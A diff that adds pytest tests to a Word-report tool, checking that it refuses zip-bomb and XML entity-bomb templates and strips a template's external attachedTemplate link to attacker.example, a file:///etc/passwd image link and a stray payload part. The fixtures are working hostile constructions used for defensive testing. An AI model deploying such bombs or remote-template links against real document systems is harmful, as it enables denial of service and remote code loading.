@@ -158,6 +158,112 @@ def test_an_office_template_keeps_its_own_text_and_styles(run: RunCli, ledger: R
     assert "Traceback" not in refused.output
 
 
+ENTITY_BOMB = ('<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">'
+               + "".join(f'<!ENTITY {n} "{("&" + p + ";") * 10}">'
+                         for p, n in zip("abcdefg", "bcdefgh", strict=True)) + "]>")
+
+
+def _bombed(path: Path, kind: str) -> Path:
+    """A template that inflates to 96 MB (a zip bomb), or whose text is an entity that
+    expands to 100 million characters (an entity bomb)."""
+    import zipfile
+
+    template = docx.Document()
+    template.add_paragraph("{{title}}")
+    buffer = io.BytesIO()
+    template.save(buffer)
+    with zipfile.ZipFile(buffer) as source:
+        parts = {name: source.read(name) for name in source.namelist()}
+    if kind == "entities":
+        xml = parts["word/document.xml"].decode("utf-8")
+        head = xml.index("?>") + 2
+        parts["word/document.xml"] = (xml[:head] + ENTITY_BOMB + xml[head:]).replace(
+            "{{title}}", "&h;").encode("utf-8")
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+        for name, data in parts.items():
+            out.writestr(name, data)
+        if kind == "zip":
+            with out.open("word/media/bomb.bin", "w") as bomb:
+                for _ in range(96):
+                    bomb.write(b"\0" * (1 << 20))
+    return path
+
+
+@pytest.mark.parametrize(("kind", "expected"), [
+    ("zip", "炸弹.docx unzips to more than 67108864 bytes (at part word/media/bomb.bin; "
+            "limits.unzipped_bytes in huishang.yaml); it was not read\n"),
+    ("entities", "the document template 炸弹.docx cannot be used: Maximum entity "
+                 "amplification factor exceeded"),
+])
+def test_a_bombed_template_is_refused_naming_it(run: RunCli, ledger: Repo, tmp_path: Path,
+                                                kind: str, expected: str) -> None:
+    _bombed(ledger.root / "炸弹.docx", kind)
+    assert (ledger.root / "炸弹.docx").stat().st_size < 300_000
+    ledger.write("huishang.yaml", "documents:\n  template: 炸弹.docx\n")
+    out = tmp_path / "通报.docx"
+    result = run("bulletin", "--month", "2024-08", "--format", "docx", "-o", str(out),
+                 "--repo", str(ledger.root), "--today", "2024-09-03", "--lang", "en")
+    assert result.exit_code == 2, result.output
+    assert result.stderr.startswith(f"huishang: {expected}"), result.stderr
+    assert not out.exists()
+
+
+def test_a_templates_outside_links_are_dropped_and_its_placeholders_filled_once(
+        run: RunCli, ledger: Repo, tmp_path: Path) -> None:
+    """An attached template on a web address and a `file://` picture link would be fetched
+    by Word when a leader opens the document; a meeting title holding `{{issuer}}` was
+    filled again as a placeholder; a part no relationship reaches is not carried over."""
+    import zipfile
+
+    from docx.opc.constants import RELATIONSHIP_TYPE as RT
+    from docx.oxml.parser import OxmlElement
+
+    template = docx.Document()
+    template.add_paragraph("{{title}}")
+    body = template.add_paragraph("正文链接 ")
+    rid = template.part.relate_to("https://court.example/规定", RT.HYPERLINK, is_external=True)
+    link = OxmlElement("w:hyperlink")
+    link.set(qn("r:id"), rid)
+    body._p.append(link)
+    (settings,) = (p for p in template.part.package.iter_parts()
+                   if str(p.partname) == "/word/settings.xml")
+    attached = settings.relate_to("https://attacker.example/t.dotm",
+                                       "http://schemas.openxmlformats.org/officeDocument/2006/"
+                                       "relationships/attachedTemplate", is_external=True)
+    element = OxmlElement("w:attachedTemplate")
+    element.set(qn("r:id"), attached)
+    settings.element.append(element)
+    header = template.sections[0].header
+    header.part.relate_to("file:///etc/passwd", RT.IMAGE, is_external=True)
+    buffer = io.BytesIO()
+    template.save(buffer)
+    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(ledger.root / "模板.docx", "w") as out:
+        for name in source.namelist():
+            out.writestr(name, source.read(name))
+        out.writestr("evil/payload.bin", b"MZ not a part of the document")
+    ledger.write("huishang.yaml", "documents:\n  template: 模板.docx\n  issuer: 某某省高级人民法院研究室\n")
+    ledger.write("items/m1/meeting.yaml", MEETING.replace("两院第一次会商会", "两院{{issuer}}会商会"))
+    ledger.commit("模板", ZHANG, "2024-08-03")
+    out_path = tmp_path / "报告.docx"
+    result = run("review", "m1", "--format", "docx", "-o", str(out_path), "--repo",
+                 str(ledger.root), "--today", "2024-09-03", "--lang", "en")
+    assert result.exit_code == 0, result.output
+    assert result.stderr == (
+        f"wrote {out_path}\n"
+        "links outside the document template 模板.docx were dropped (the body's hyperlinks "
+        "excepted): attachedTemplate https://attacker.example/t.dotm, "
+        "image file:///etc/passwd\n")
+    with zipfile.ZipFile(out_path) as made:
+        names = made.namelist()
+        everything = b"".join(made.read(name) for name in names)
+    assert "evil/payload.bin" not in names
+    assert b"attacker.example" not in everything and b"file:///" not in everything
+    assert b"attachedTemplate" not in everything
+    assert b"https://court.example/" in everything  # the body's hyperlink stays
+    document = _docx(out_path)
+    assert _texts(document)[0] == "Report on the items agreed at 两院{{issuer}}会商会"
+
+
 def test_docx_needs_an_output_file(run: RunCli, ledger: Repo) -> None:
     for args in (["bulletin", "--month", "2024-08"], ["review", "m1"],
                  ["notice", "--unit", "最高法"]):
